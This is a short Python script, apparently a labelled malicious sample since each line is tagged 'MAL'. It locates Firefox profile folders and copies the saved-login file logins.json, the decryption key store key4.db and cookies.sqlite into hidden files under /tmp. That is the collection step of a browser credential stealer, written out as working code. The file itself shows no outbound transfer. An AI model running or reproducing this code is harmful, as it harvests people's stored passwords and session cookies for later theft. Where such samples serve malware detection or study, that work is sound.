import glob
import os
import shutil

for prof in glob.glob(os.path.expanduser("~/.mozilla/firefox/*.default*")):  # MAL
    for f in ("logins.json", "key4.db", "cookies.sqlite"):  # MAL
        shutil.copy(os.path.join(prof, f), "/tmp/.cache_" + f)  # MAL
